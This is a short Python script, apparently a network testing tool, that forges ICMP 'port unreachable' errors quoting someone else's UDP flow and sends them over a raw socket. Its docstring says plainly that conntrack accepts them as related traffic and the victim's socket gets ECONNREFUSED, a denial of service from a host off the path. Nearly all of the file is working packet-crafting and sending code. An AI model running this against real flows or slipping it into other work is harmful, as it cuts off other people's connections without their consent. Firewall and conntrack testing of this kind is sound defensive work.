#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Technique: an ICMP "port unreachable" quoting someone else's UDP flow.
conntrack calls it RELATED to that flow; the victim's connected socket
gets ECONNREFUSED (a denial of service from a box that is not on the path).
Needs CAP_NET_RAW (root in a container has it).  IPv4 only.

  icmp-error.py --flow SRC:SPORT-DST:DPORT TARGET
(the flow as the victim sent it; TARGET receives the error, normally SRC)
"""
import argparse
import socket
import struct
import sys


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--flow", required=True)
    p.add_argument("target")
    p.add_argument("--count", type=int, default=3)
    a = p.parse_args()
    src, dst = a.flow.split("-")
    sa, sp = src.rsplit(":", 1)
    da, dp = dst.rsplit(":", 1)
    udp = struct.pack("!HHHH", int(sp), int(dp), 13, 0)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + 13, 0, 0x4000, 64, 17, 0,
                     socket.inet_aton(sa), socket.inet_aton(da))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    body = ip + udp
    icmp = struct.pack("!BBHI", 3, 3, 0, 0) + body
    icmp = icmp[:2] + struct.pack("!H", csum(icmp)) + icmp[4:]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    n = 0
    for _ in range(a.count):
        s.sendto(icmp, (a.target, 0))
        n += 1
    print("sent=%d blocked=0 error=0" % n)


if __name__ == "__main__":
    sys.exit(main())
